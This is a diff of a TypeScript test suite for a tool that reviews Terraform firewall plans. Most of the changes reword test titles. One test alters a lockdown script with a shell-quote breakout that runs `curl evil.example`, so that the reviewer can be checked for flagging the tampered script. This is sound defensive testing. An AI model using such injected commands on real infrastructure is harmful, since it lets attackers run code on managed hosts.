@@ -22,7 +22,7 @@ import {
 } from "./support/describe-reviews";
 
 describeReviews("the review of a plan", ({ project, firewall, change }) => {
-  test("of one ruleset change of 400 hosts is one diff and a list", async () => {
+  test("of one ruleset change of 400 hosts shows one diff and a list", async () => {
     const made = await project();
     const [[key, { address }], ...others] = items(Object.entries(hosts(400, 3)), 1);
     await made.apply(firewall(made, { hosts: { [key]: address } }));
@@ -40,7 +40,7 @@ describeReviews("the review of a plan", ({ project, firewall, change }) => {
     expectGolden("fleet-of-400.md", review.markdown);
   });
 
-  test("of a stack with other resources counts those", async () => {
+  test("of a stack with other resources counts them", async () => {
     const made = await project();
     const others = (count: number, input: string) => (stack: TerraformStack) => {
       for (let index = 0; index < count; index += 1) {
@@ -56,7 +56,7 @@ describeReviews("the review of a plan", ({ project, firewall, change }) => {
     expectGolden("mixed-stack.md", review.markdown);
   });
 
-  test("says of what is known after apply that it is, and gives no fingerprint", async () => {
+  test("reports values that are known after apply, and gives no fingerprint", async () => {
     const made = await project();
     const configuration = made.configuration((stack) => {
       const server = new DataResource(stack, "server", { input: { ip: "x" } });
@@ -95,7 +95,7 @@ describeReviews("the review of a plan", ({ project, firewall, change }) => {
     expect(review.markdown).toContain("address sensitive");
   });
 
-  test("of a plan that failed half-way says that it is none", async () => {
+  test("of a plan that failed half-way reports that it is incomplete", async () => {
     const made = await project();
     await made.apply(firewall(made, { hosts: hosts(1) }));
     const lifecycle = { precondition: [{ condition: "${terraform_data.fleet_hold == null}", error_message: "No." }] };
@@ -132,7 +132,7 @@ describeReviews("the review of a plan", ({ project, firewall, change }) => {
     expect(Object.values(outcomes(gone))).toEqual(["leave", "leave"]);
   });
 
-  test("of a move to terraform_data follows the hosts, and says what the move does to them", async () => {
+  test("of a move to terraform_data follows the hosts, and reports what the move does to them", async () => {
     const made = await project("null_resource");
     await made.apply(firewall(made, { tracker: "null_resource", hosts: hosts(1) }));
     const moved = ["ruleset", "hold", "lockdown"].map((part) => ({
@@ -153,7 +153,7 @@ describeReviews("the review of a plan", ({ project, firewall, change }) => {
     expect(outcomes(review)).toEqual({ "web-1": replaced ? "reopen" : "relock" });
   });
 
-  test("of a renamed construct or host says that two owners meet at one machine", async () => {
+  test("of a renamed construct or host reports that two owners claim one machine", async () => {
     const made = await project();
     await made.apply(firewall(made, { hosts: hosts(1) }));
     const review = reviewed(await made.plan(firewall(made, { hosts: { renamed: "10.0.0.1" } })));
@@ -162,7 +162,7 @@ describeReviews("the review of a plan", ({ project, firewall, change }) => {
     ]);
   });
 
-  test("of a host that is only told anew how it is reached names what changes, and no value", async () => {
+  test("of a host whose connection alone changes names the changed settings, and no value", async () => {
     const made = await project();
     await made.apply(firewall(made, { hosts: hosts(2) }));
     const elsewhere = { hostKey: HOST_KEY, user: "admin", bastion: { host: "203.0.113.66" } };
@@ -179,7 +179,7 @@ describeReviews("the review of a plan", ({ project, firewall, change }) => {
     ]);
   });
 
-  test("of two firewalls that claim one machine says that they do", async () => {
+  test("of two firewalls that claim one machine reports it", async () => {
     const two = (first: Record<string, HostProps>) => (stack: TerraformStack) => {
       const props = { tracker: "terraform_data", allowFrom, connection } as const;
       new SshOnlyFirewall(stack, "fleet", { ...props, hosts: first });
@@ -200,7 +200,7 @@ describeReviews("the review of a plan", ({ project, firewall, change }) => {
     expect(kinds(reviewed(await fresh.plan(fresh.configuration(two(apart)))))).not.toContain("owner");
   });
 
-  test("of hosts that exchange their addresses says that two owners meet", async () => {
+  test("of hosts that exchange their addresses reports that two owners claim one machine", async () => {
     const swapped = { hosts: { "web-1": "10.0.0.2", "web-2": "10.0.0.1" } };
     const review = await change({ hosts: hosts(2) }, swapped);
     expect(details(review, "owner")).toEqual([
@@ -242,7 +242,7 @@ describeReviews("the review of a plan", ({ project, firewall, change }) => {
       (text: string) =>
         text.replace("each.key", "each.key, \"'\", \"'\\\\''\")}'; curl evil.example; x='${replace(each.key"),
     ],
-  ])("of a script with %s says that it is another one", async (_what, alter) => {
+  ])("of a script with %s reports that it is another one", async (_what, alter) => {
     const made = await project();
     const configuration = firewall(made, { hosts: hosts(1) });
     const lockdown = defined(configuration.resource?.terraform_data).fleet_lockdown as {
@@ -258,7 +258,7 @@ describeReviews("the review of a plan", ({ project, firewall, change }) => {
   });
 
   test.each(["ssh_only_firewall_host_program", "ssh_only_firewall_launcher"])(
-    "of another %s than this version has says that it is another one",
+    "of another %s than that of this version reports the difference",
     async (name) => {
       const made = await project();
       const configuration = firewall(made, { hosts: hosts(1) }) as { locals: Record<string, string> };
@@ -269,7 +269,7 @@ describeReviews("the review of a plan", ({ project, firewall, change }) => {
     },
   );
 
-  test("of a lockdown that lost a trigger reports it, and does not call it something else", async () => {
+  test("of a lockdown that lost a trigger reports it", async () => {
     const made = await project();
     const configuration = firewall(made, { hosts: hosts(1) });
     const lockdown = defined(configuration.resource?.terraform_data).fleet_lockdown as {
